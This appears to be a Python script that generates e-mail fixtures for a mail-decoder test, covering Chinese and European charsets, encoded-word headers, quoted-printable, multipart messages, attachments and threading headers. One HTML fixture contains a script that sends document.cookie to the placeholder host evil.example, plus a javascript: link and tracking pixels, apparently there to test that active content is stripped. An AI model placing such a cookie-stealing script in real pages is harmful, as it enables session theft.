#!/usr/bin/env python3
"""Writes the e-mail fixtures of MailDecoderTest byte-exact (CRLF line endings, raw GBK/Big5/GB18030 bytes).

Header values marked C1/C2/C3 are copied from /work/shared/CHANNEL_FORMATS.md part C. Run from this folder:
    python3 make_fixtures.py
and it prints the sha256 of every attachment so that the test's expectations can be checked by hand.
"""
import base64
import hashlib
import os
import quopri

HERE = os.path.dirname(os.path.abspath(__file__))
CRLF = b"\r\n"


def b(x):
    return x if isinstance(x, bytes) else x.encode("ascii")


def write(name, headers, body):
    """headers: list of str/bytes lines (already folded); body: bytes with CRLF line ends."""
    raw = CRLF.join(b(h) for h in headers) + CRLF + CRLF + body
    with open(os.path.join(HERE, name), "wb") as f:
        f.write(raw)


def lines(*ls):
    """Body lines (str = ASCII, bytes = raw) joined with CRLF and ending with CRLF."""
    return b"".join(b(l) + CRLF for l in ls)


def b64lines(data):
    enc = base64.b64encode(data).decode("ascii")
    return [enc[i:i + 76] for i in range(0, len(enc), 76)]


def common(subject, frm="Wang Fang <wang.fang@example.cn>", msgid="<{}@mail.example.cn>", extra=()):
    hs = [
        "Return-Path: <wang.fang@example.cn>",
        "From: " + frm if isinstance(frm, str) else b"From: " + frm,
        "To: complaints@acme.example",
        "Date: Mon, 10 Jun 2024 11:14:58 +0800",
        "Subject: " + subject if isinstance(subject, str) else b"Subject: " + subject,
    ]
    if msgid:
        hs.append("Message-ID: " + msgid)
    hs.extend(extra)
    hs.append("MIME-Version: 1.0")
    return hs


attachments = {}

# 1. C1 GB2312 B subject; GB2312 body as 8bit
write("gb2312_b_subject.eml",
      common("=?GB2312?B?zbbL36O6v+y13cbGy/Agtqm1pTQ0MTE=?=", msgid="<gb2312-b-4411@mail.example.cn>") + [
          "Content-Type: text/plain; charset=GB2312",
          "Content-Transfer-Encoding: 8bit"],
      lines("快递盒子压坏了，里面的杯子碎了。".encode("gb2312"), "订单号 4411。".encode("gb2312")))

# 2. C1 UTF-8 Q subject (75 chars) + C3 QP body with soft line breaks and =E2=82=AC
qp_body = ("Sehr geehrte Damen und Herren,\r\n"
           "die Lieferung zur Bestellung 4411 kam beschädigt an. Der Karton war eingedrückt und "
           "die Vase zerbrochen. Ich bitte um Erstattung von 49,90 € oder um Ersatz.\r\n"
           "Mit freundlichen Grüßen\r\nJürgen Müller\r\n").encode("utf-8")
write("utf8_q_subject_qp_body.eml",
      common("=?UTF-8?Q?Beschwerde:_Lieferung_besch=C3=A4digt_=E2=80=93_Bestellung_4411?=",
             frm="=?UTF-8?Q?J=C3=BCrgen_M=C3=BCller?= <juergen.mueller@example.de>",
             msgid="<qp-4411@mail.example.de>") + [
          "Content-Type: text/plain; charset=UTF-8",
          "Content-Transfer-Encoding: quoted-printable"],
      quopri.encodestring(qp_body).replace(b"\r\n", b"\n").replace(b"=0D\n", b"\n").replace(b"\n", b"\r\n"))

# 3. C1 Big5 two encoded words folded + C2 raw 8bit Big5 body; display name in Big5 too
write("big5_8bit_split_encoded_words.eml",
      common(b"=?Big5?B?p9qtbqfrtkShRw==?=\r\n =?Big5?B?sGi02qW8qOyxYg==?=",
             frm="=?Big5?B?" + base64.b64encode("陳大文".encode("big5")).decode() + "?= <chan.taiman@example.hk>",
             msgid="<big5-4411@mail.example.hk>") + [
          "Content-Type: text/plain; charset=big5",
          "Content-Transfer-Encoding: 8bit"],
      lines("我要投訴：退款未到帳，已經等了兩個星期。".encode("big5"), "訂單編號 4411".encode("big5")))

# 4. C1 lower-case charset/encoding; lower-case header names and parameter values
write("lowercase_charset_encoding.eml",
      ["from: Claire Martin <claire.martin@example.fr>",
       "to: complaints@acme.example",
       "date: Tue, 11 Jun 2024 09:02:11 +0200",
       "subject: =?utf-8?q?r=c3=a9clamation?= commande 4411",
       "message-id: <lower-4411@mail.example.fr>",
       "mime-version: 1.0",
       "content-type: text/plain; charset=utf-8",
       "content-transfer-encoding: quoted-printable"],
      lines("Le colis est arriv=c3=a9 ab=c3=aem=c3=a9."))

# 5. C1 non-standard alias UTF8, in subject and body charset
write("utf8_alias.eml",
      common("=?UTF8?B?5oqV6K+J?=", msgid="<alias-4411@mail.example.cn>") + [
          "Content-Type: text/plain; charset=UTF8",
          "Content-Transfer-Encoding: base64"],
      lines(*b64lines("包裹丢了。".encode("utf-8"))))

# 6. C1 encoded word split inside a UTF-8 character
write("utf8_split_character.eml",
      common("=?UTF-8?B?5oqV6A==?= =?UTF-8?B?r4k=?=", msgid="<split-4411@mail.example.cn>") + [
          "Content-Type: text/plain; charset=UTF-8",
          "Content-Transfer-Encoding: 8bit"],
      lines("快递员态度很差。".encode("utf-8")))

# 7. C2 gb2312 label, GBK-only 镕 (E9 46), base64 body
gbk_body = "您好，我叫朱镕，订单4411的货物破损。\r\n".encode("gbk")
assert "镕".encode("gbk") == b"\xe9\x46"
write("gb2312_mislabelled_gbk.eml",
      common("=?GB2312?B?" + base64.b64encode("货物破损".encode("gb2312")).decode() + "?=",
             msgid="<gbk-4411@mail.example.cn>") + [
          "Content-Type: text/plain; charset=\"gb2312\"",
          "Content-Transfer-Encoding: base64"],
      lines(*b64lines(gbk_body)))

# 8. C2 GB18030 4-byte 𠮷 (95 34 B2 35) in subject, From display name and body
assert "𠮷".encode("gb18030") == b"\x95\x34\xb2\x35"
write("gb18030_4byte.eml",
      common("=?GB18030?B?" + base64.b64encode("𠮷野家外卖投诉".encode("gb18030")).decode() + "?=",
             frm="=?GB18030?B?" + base64.b64encode("𠮷田".encode("gb18030")).decode() + "?= <yoshida@example.cn>",
             msgid="<gb18030-4411@mail.example.cn>") + [
          "Content-Type: text/plain; charset=GB18030",
          "Content-Transfer-Encoding: base64"],
      lines(*b64lines("𠮷野家的外卖洒了一半。\r\n".encode("gb18030"))))

# 9. C2 no charset parameter, 8-bit bytes: one UTF-8, one GB18030 (fallback: strict UTF-8, else GB18030)
write("no_charset_8bit_utf8.eml",
      common("No charset (UTF-8 bytes)", msgid="<nocs-utf8-4411@mail.example.cn>") + [
          "Content-Type: text/plain",
          "Content-Transfer-Encoding: 8bit"],
      lines("退货申请被拒绝了。".encode("utf-8")))
write("no_charset_8bit_gb18030.eml",
      common("No charset (GB18030 bytes)", msgid="<nocs-gb-4411@mail.example.cn>") + [
          "Content-Transfer-Encoding: 8bit"],
      lines("退货申请被拒绝了。".encode("gb18030")))

# 10. C3 HTML only, <script>, <style>, remote tracking <img>, a link and a javascript: link
write("html_only.eml",
      common("Damaged parcel", frm="\"Li, Ming\" <li.ming@example.com>", msgid="<html-4411@mail.example.com>") + [
          "Content-Type: text/html; charset=UTF-8",
          "Content-Transfer-Encoding: 8bit"],
      lines("<!DOCTYPE html>",
            "<html><head><title>Ignored title</title>",
            "<style>p { color: red; }</style>",
            "<script>document.location='https://evil.example/steal?c='+document.cookie;</script>",
            "</head><body>",
            "<p>Hello,</p>",
            "<p>my parcel (order <b>4411</b>) arrived   crushed.<br>Photos: <a href=\"https://photos.example.com/4411\">album</a></p>",
            "<ul><li>box torn</li><li>vase broken</li></ul>",
            "<p><a href=\"javascript:alert(1)\">click me</a></p>",
            "<img src=\"https://track.example.net/open.gif?id=4411\" width=\"1\" height=\"1\" alt=\"\">",
            "<script>new Image().src='https://track.example.net/js';</script>",
            "</body></html>"))

# 11. multipart/alternative: text/plain preferred over text/html
write("multipart_alternative.eml",
      common("Refund missing", frm="Li Ming <li.ming@example.com>", msgid="<alt-4411@mail.example.com>") + [
          "Content-Type: multipart/alternative; boundary=\"ALT-4411\""],
      lines("--ALT-4411",
            "Content-Type: text/plain; charset=UTF-8",
            "Content-Transfer-Encoding: 7bit",
            "",
            "The refund for order 4411 has not arrived.",
            "--ALT-4411",
            "Content-Type: text/html; charset=UTF-8",
            "Content-Transfer-Encoding: 7bit",
            "",
            "<p>The <b>HTML</b> version must not be used.</p>",
            "--ALT-4411--"))

# 12. C3 multipart/mixed with a preamble, text + two PDFs named by RFC 2231 and by RFC 2047 inside quotes
pdf1 = b"%PDF-1.4\n% complaint form 4411, first copy\n%%EOF\n"
pdf2 = b"%PDF-1.4\n% complaint form 4411, second copy\n%%EOF\n"
attachments["multipart_mixed_attachment.eml/1"] = pdf1
attachments["multipart_mixed_attachment.eml/2"] = pdf2
write("multipart_mixed_attachment.eml",
      common("=?UTF-8?B?5oqV6K+J5Y2V?=", msgid="<mixed-4411@mail.example.cn>") + [
          "Content-Type: multipart/mixed; boundary=\"MIX-4411\""],
      lines("This is a multi-part message in MIME format.",
            "If you can read this, your mail client is too old.",
            "--MIX-4411",
            "Content-Type: text/plain; charset=UTF-8",
            "Content-Transfer-Encoding: base64",
            "",
            *b64lines("投诉单见附件。".encode("utf-8")),
            "--MIX-4411",
            "Content-Type: application/pdf",
            "Content-Disposition: attachment; filename*=UTF-8''%E6%8A%95%E8%AF%89%E5%8D%95-4411.pdf",
            "Content-Transfer-Encoding: base64",
            "",
            *b64lines(pdf1),
            "--MIX-4411",
            "Content-Type: application/pdf; name=\"=?UTF-8?B?5oqV6K+J5Y2VLTQ0MTEucGRm?=\"",
            "Content-Transfer-Encoding: base64",
            "",
            *b64lines(pdf2),
            "--MIX-4411--",
            "epilogue, ignored"))

# 13. C3 multipart/related; type=multipart/alternative, inline PNG with Content-ID
png = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==")
attachments["inline_image_related.eml/1"] = png
write("inline_image_related.eml",
      common("Photo of the damage", frm="Li Ming <li.ming@example.com>", msgid="<related-4411@mail.example.com>") + [
          "Content-Type: multipart/related; type=\"multipart/alternative\"; boundary=\"REL-4411\""],
      lines("--REL-4411",
            "Content-Type: multipart/alternative; boundary=\"ALT-4411\"",
            "",
            "--ALT-4411",
            "Content-Type: text/plain; charset=UTF-8",
            "",
            "See the photo of the damaged box.",
            "--ALT-4411",
            "Content-Type: text/html; charset=UTF-8",
            "",
            "<p>See the photo:</p><img src=\"cid:damage.4411@example.com\">",
            "--ALT-4411--",
            "--REL-4411",
            "Content-Type: image/png; name=\"damage.png\"",
            "Content-Transfer-Encoding: base64",
            "Content-ID: <damage.4411@example.com>",
            "Content-Disposition: inline; filename=\"damage.png\"",
            "",
            *b64lines(png),
            "--REL-4411--"))

# 14. C3 winmail.dat, 6-byte stub: TNEF signature 78 9F 3E 22 + 2-byte key
tnef = b"\x78\x9f\x3e\x22\x34\x12"
attachments["tnef_winmail_stub.eml/1"] = tnef
write("tnef_winmail_stub.eml",
      common("Complaint (Outlook)", frm="Li Ming <li.ming@example.com>", msgid="<tnef-4411@mail.example.com>") + [
          "Content-Type: multipart/mixed; boundary=\"TNEF-4411\""],
      lines("--TNEF-4411",
            "Content-Type: text/plain; charset=us-ascii",
            "",
            "Please see the attached complaint.",
            "--TNEF-4411",
            "Content-Type: application/ms-tnef; name=\"winmail.dat\"",
            "Content-Transfer-Encoding: base64",
            "Content-Disposition: attachment; filename=\"winmail.dat\"",
            "",
            *b64lines(tnef),
            "--TNEF-4411--"))

# 15. C3 forward as attachment (message/rfc822)
inner = (lines("From: =?UTF-8?B?" + base64.b64encode("张伟".encode()).decode() + "?= <zhang.wei@example.cn>",
               "To: service@shop.example",
               "Date: Sun, 09 Jun 2024 20:01:00 +0800",
               "Subject: =?UTF-8?B?" + base64.b64encode("订单4411少发了一件".encode()).decode() + "?=",
               "Message-ID: <orig-4411@mail.example.cn>",
               "MIME-Version: 1.0",
               "Content-Type: text/plain; charset=UTF-8",
               "Content-Transfer-Encoding: 8bit",
               "")
         + lines("我买了两件，只收到一件。".encode("utf-8")))
attachments["forward_as_attachment.eml/1"] = inner
write("forward_as_attachment.eml",
      common("Fwd: complaint from a customer", frm="Shop Service <service@shop.example>",
             msgid="<fwd-4411@shop.example>") + [
          "Content-Type: multipart/mixed; boundary=\"FWD-4411\""],
      lines("--FWD-4411",
            "Content-Type: text/plain; charset=UTF-8",
            "",
            "Forwarding a customer's complaint.",
            "--FWD-4411",
            "Content-Type: message/rfc822",
            "Content-Disposition: attachment",
            "")
      + inner + CRLF   # the CRLF before a boundary belongs to the boundary: the part is exactly `inner`
      + lines("--FWD-4411--"))

# 16. C6 no Message-ID at all
write("no_message_id.eml",
      common("No Message-ID", frm="li.ming@example.com", msgid=None) + [
          "Content-Type: text/plain; charset=UTF-8"],
      lines("My mailer sends no Message-ID."))

# 17. C6 threaded reply: In-Reply-To / References (folded), ticket token in the subject
write("reply_threaded.eml",
      common("Re: [Ticket #4411] We have received your complaint", frm="Li Ming <li.ming@example.com>",
             msgid="<reply-4411@mail.example.com>",
             extra=["In-Reply-To: <ticket-4411-ack@acme.example>",
                    "References: <orig-4411@mail.example.com>",
                    " <ticket-4411-ack@acme.example>"]) + [
          "Content-Type: text/plain; charset=UTF-8"],
      lines("Any news?", "", "> Your complaint has been registered."))

for k, v in sorted(attachments.items()):
    print(k, len(v), hashlib.sha256(v).hexdigest())
